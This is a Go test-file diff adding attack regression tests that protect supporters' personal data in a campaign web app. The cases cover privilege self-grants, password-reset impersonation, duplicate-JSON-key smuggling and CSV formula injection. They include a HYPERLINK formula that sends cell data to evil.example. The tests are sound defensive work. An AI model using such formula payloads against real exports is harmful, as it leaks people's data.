@@ -1,8 +1,10 @@
 package web_test
 
 import (
+	"archive/zip"
 	"bufio"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"html/template"
@@ -624,7 +626,7 @@ func TestAttackMailHeaderInjection(t *testing.T) {
 func TestAttackPathTraversal(t *testing.T) {
 	af := newAttackApp(t, "", nil)
 	token := submitToken(t, af, nil)
-	staff := af.signedIn("staff@example.org", app.RoleStaff)
+	staff := af.signedIn("staff@example.org", app.RoleStaff, app.RoleSupporterData) // packets need supporter-data
 	session := "advocate_session=" + staff.cookie("advocate_session")
 	secrets := []string{"module github.com/advocate-org", "root:x:0:0", "package web", "[core]"}
 	rows := []struct {
@@ -1266,4 +1268,219 @@ func TestAttackSpamFloods(t *testing.T) {
 // compared for everything else.
 func stripCSRF(body string) string {
 	return regexp.MustCompile(`name="_csrf" value="[^"]*"`).ReplaceAllString(body, `name="_csrf" value=""`)
+}
+
+// TestAttackSupportersTrust: the abuse paths an outside review found
+// around supporters' personal data. Supporters of a campaign may
+// themselves be at risk, so each row is an insider or a crafted request
+// trying to reach their names, addresses and emails.
+func TestAttackSupportersTrust(t *testing.T) {
+	af, _ := fullApp(t)
+	ctx := context.Background()
+	const victim = "at.risk@example.org"
+	submitToken(t, af, map[string]any{"email": victim, "first_name": "Gulnar", "last_name": "Tursun", "address1": "9 Hidden Lane"})
+	staff := af.signedIn("staff@example.org", app.RoleStaff)
+	holder := af.signedIn("holder@example.org", app.RoleStaff, app.RoleSupporterData)
+	adminA := af.signedIn("admin.a@example.org", app.RoleAdmin)
+	adminB := af.signedIn("admin.b@example.org", app.RoleAdmin)
+	userID := func(email string) string {
+		u, err := af.db.FindUserByEmail(ctx, email)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return itoa(u.ID)
+	}
+	hasRole := func(email string, r app.Role) bool {
+		u, err := af.db.FindUserByEmail(ctx, email)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return u.Has(r)
+	}
+	pendingGrant := func(email string) string {
+		gs, err := af.auth.RoleGrants(cliCtx, app.RoleGrantFilter{Status: app.GrantPending})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, g := range gs {
+			if g.UserEmail == email {
+				return itoa(g.ID)
+			}
+		}
+		t.Fatalf("no pending grant for %s", email)
+		return ""
+	}
+	rows := []struct {
+		name string
+		run  func(t *testing.T)
+	}{
+		{name: "plain staff download the office packets (every letter in full)", run: func(t *testing.T) {
+			before := len(af.auditActions(app.AuditFilter{Action: "packets.write"}))
+			resp, body := staff.get("/staff/campaigns/" + slug + "/packets.zip")
+			if resp.StatusCode != http.StatusForbidden || strings.HasPrefix(body, "PK") {
+				t.Fatalf("%d", resp.StatusCode)
+			}
+			if resp, body := holder.get("/staff/campaigns/" + slug + "/packets.zip"); resp.StatusCode != http.StatusOK || !strings.HasPrefix(body, "PK") {
+				t.Fatalf("supporter-data: %d", resp.StatusCode)
+			}
+			if got := len(af.auditActions(app.AuditFilter{Action: "packets.write"})); got != before+1 {
+				t.Fatalf("audit events %d, want %d", got, before+1)
+			}
+		}},
+		{name: "plain staff ask the letters exports for names and emails", run: func(t *testing.T) {
+			for _, f := range []string{"letters.csv", "letters.json"} {
+				p := "/staff/campaigns/" + slug + "/export/" + f
+				if resp, body := staff.get(p + "?personal=1"); resp.StatusCode != http.StatusForbidden || strings.Contains(body, victim) {
+					t.Errorf("%s?personal=1: %d", f, resp.StatusCode)
+				}
+				resp, body := staff.get(p)
+				if resp.StatusCode != http.StatusOK || strings.Contains(body, victim) || strings.Contains(body, "Tursun") || !strings.Contains(body, "a***@e***.org") {
+					t.Errorf("%s: %d, not masked:\n%s", f, resp.StatusCode, body)
+				}
+			}
+			if _, body := staff.get("/staff/campaigns/" + slug + "/letters"); strings.Contains(body, victim) || strings.Contains(body, "Tursun") {
+				t.Error("the letters list shows the supporter unmasked")
+			}
+		}},
+		{name: "an admin gives themself the supporter-data role", run: func(t *testing.T) {
+			form := url.Values{"name": {"A"}, "roles": {"admin", "supporter-data"}}
+			resp, body := adminA.submit("/admin/users/"+userID("admin.a@example.org"), "/admin/users/"+userID("admin.a@example.org"), form)
+			if resp.StatusCode != http.StatusSeeOther || hasRole("admin.a@example.org", app.RoleSupporterData) {
+				t.Fatalf("%d %s", resp.StatusCode, errorText(body))
+			}
+			if resp, _ := adminA.get("/staff/supporters?email=" + url.QueryEscape(victim)); resp.StatusCode != http.StatusForbidden {
+				t.Fatalf("supporter pages: %d", resp.StatusCode)
+			}
+			_, page := adminA.get("/admin/users")
+			mustContain(t, page, "Waiting for a second administrator", "another administrator approves")
+			_, page = adminB.get("/admin/users")
+			mustContain(t, page, "/admin/grants/"+pendingGrant("admin.a@example.org")+"/approve")
+			_, page = adminB.get("/admin/users/" + userID("admin.a@example.org"))
+			mustContain(t, page, "Waiting for a second administrator", "/admin/grants/"+pendingGrant("admin.a@example.org")+"/approve", ">Refuse<")
+			_, page = adminA.get("/admin/users/" + userID("admin.a@example.org"))
+			mustContain(t, page, "another administrator approves", ">Withdraw<")
+			mustNotContain(t, page, "/admin/grants/"+pendingGrant("admin.a@example.org")+"/approve")
+		}},
+		{name: "the same admin approves their own request", run: func(t *testing.T) {
+			id := pendingGrant("admin.a@example.org")
+			resp, _ := adminA.submit("/admin/users", "/admin/grants/"+id+"/approve", url.Values{})
+			if resp.StatusCode != http.StatusForbidden || hasRole("admin.a@example.org", app.RoleSupporterData) {
+				t.Fatalf("%d", resp.StatusCode)
+			}
+			// A second administrator's approval is what gives it.
+			resp, _ = adminB.submit("/admin/users", "/admin/grants/"+id+"/approve", url.Values{})
+			if resp.StatusCode != http.StatusSeeOther || !hasRole("admin.a@example.org", app.RoleSupporterData) {
+				t.Fatalf("second admin: %d", resp.StatusCode)
+			}
+			if resp, _ := adminA.get("/staff/supporters?email=" + url.QueryEscape(victim)); resp.StatusCode != http.StatusOK {
+				t.Fatalf("after approval: %d", resp.StatusCode)
+			}
+			acts := strings.Join(af.auditActions(app.AuditFilter{Action: "role_grant"}), " ")
+			for _, a := range []string{"role_grant.request", "role_grant.approve_refused", "role_grant.approve"} {
+				if !strings.Contains(acts, a) {
+					t.Errorf("audit log lacks %s: %s", a, acts)
+				}
+			}
+		}},
+		{name: "an admin creates a new account with the supporter-data role", run: func(t *testing.T) {
+			form := url.Values{"email": {"friend@example.org"}, "roles": {"staff", "supporter-data"}, "password": {testPassword}}
+			resp, body := adminB.submit("/admin/users", "/admin/users", form)
+			if resp.StatusCode != http.StatusSeeOther || hasRole("friend@example.org", app.RoleSupporterData) {
+				t.Fatalf("%d %s", resp.StatusCode, errorText(body))
+			}
+			mustContain(t, adminB.follow(resp, body), "needs a second administrator")
+			// The requester withdraws it.
+			resp, _ = adminB.submit("/admin/users", "/admin/grants/"+pendingGrant("friend@example.org")+"/refuse", url.Values{})
+			if resp.StatusCode != http.StatusSeeOther || hasRole("friend@example.org", app.RoleSupporterData) {
+				t.Fatalf("refuse: %d", resp.StatusCode)
+			}
+		}},
+		{name: "an admin resets a supporter-data holder's password to sign in as them", run: func(t *testing.T) {
+			before := dbState(t, af)
+			id := userID("holder@example.org")
+			resp, _ := adminB.submit("/admin/users/"+id, "/admin/users/"+id+"/password",
+				url.Values{"password": {"borrowed password 1"}, "confirm": {"borrowed password 1"}})
+			if resp.StatusCode != http.StatusForbidden {
+				t.Fatalf("%d", resp.StatusCode)
+			}
+			if after := dbState(t, af); after != before {
+				t.Errorf("changed:\n%s", after)
+			}
+			if resp, _ := af.browser().login("holder@example.org", "borrowed password 1"); resp.StatusCode == http.StatusSeeOther {
+				t.Fatal("signed in with the reset password")
+			}
+		}},
+		{name: "an admin creates an API token for a supporter-data holder", run: func(t *testing.T) {
+			id := userID("holder@example.org")
+			resp, body := adminB.submit("/admin/users/"+id, "/admin/users/"+id+"/tokens", url.Values{"token_name": {"borrowed"}})
+			if resp.StatusCode != http.StatusForbidden || strings.Contains(body, "adv_") {
+				t.Fatalf("%d", resp.StatusCode)
+			}
+		}},
+		{name: "a duplicate JSON key smuggles a second email past a filter", run: func(t *testing.T) {
+			before := dbState(t, af)
+			for _, body := range []string{
+				strings.Replace(goodJSON, `"email":"lukasz@example.org"`, `"email":"lukasz@example.org","email":"other@example.org"`, 1),
+				strings.Replace(goodJSON, `"email":"lukasz@example.org"`, `"email":"lukasz@example.org","Email":"other@example.org"`, 1),
+				strings.Replace(goodJSON, `"zip":"12202"`, `"zip":"12202","ZIP":"60173"`, 1),
+			} {
+				resp, answer := af.do(http.MethodPost, "/api/v1/campaigns/"+slug+"/submissions", "application/json", body)
+				if resp.StatusCode != http.StatusBadRequest || !strings.Contains(answer, "Malformed JSON") {
+					t.Errorf("%s: %d %s", body, resp.StatusCode, answer)
+				}
+			}
+			if after := dbState(t, af); after != before {
+				t.Errorf("stored:\n%s", after)
+			}
+		}},
+		{name: "a formula as an office's name in the packets' index.csv", run: func(t *testing.T) {
+			af, _ := fullApp(t) // no letter yet: the packet names the office as its first letter does
+			holder := af.signedIn("holder@example.org", app.RoleSupporterData)
+			// Office names come from rosters organizers edit by hand (and
+			// letters keep the name they were written to): a letter stored
+			// with a formula as its office's name.
+			formula := `=HYPERLINK("http://evil.example/?"&A2,"open")`
+			camp, err := af.db.FindCampaignBySlug(ctx, slug)
+			if err != nil {
+				t.Fatal(err)
+			}
+			office := app.Target{Key: "exec:EVIL", Kind: app.TargetExecutive, Name: formula, LastName: "Evil", Title: "@SUM(A1:A9)",
+				Greeting: "Dear Secretary:", AddressLines: []string{"Washington, DC 20528"}}
+			sub := &app.Submission{CampaignID: camp.ID, Token: strings.Repeat("e", 26), DedupKey: "evil", CreatedAt: fixedNow,
+				Supporter: app.Supporter{FirstName: "Ann", LastName: "Lee", Email: "ann@example.org", Address1: "1 Main St", City: "Albany", State: "NY", Zip: "12202"},
+				Letters:   []app.Letter{{CampaignID: camp.ID, Recipient: office, Subject: "Free Guan Heng", Body: "Dear Secretary:\n\nPlease help.", CreatedAt: fixedNow}}}
+			if _, err := af.db.CreateSubmission(ctx, sub); err != nil {
+				t.Fatal(err)
+			}
+			_, zipBody := holder.get("/staff/campaigns/" + slug + "/packets.zip")
+			zr, err := zip.NewReader(strings.NewReader(zipBody), int64(len(zipBody)))
+			if err != nil {
+				t.Fatal(err)
+			}
+			f, err := zr.Open("index.csv")
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer f.Close()
+			recs, err := csv.NewReader(f).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			found := false
+			for _, rec := range recs {
+				for _, cell := range rec {
+					if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "+") {
+						t.Errorf("live formula in index.csv: %q", cell)
+					}
+					found = found || strings.HasPrefix(cell, "'"+formula)
+				}
+			}
+			if !found {
+				t.Errorf("the office is missing from index.csv: %v", recs)
+			}
+		}},
+	}
+	for _, r := range rows {
+		t.Run(r.name, r.run)
+	}
 }
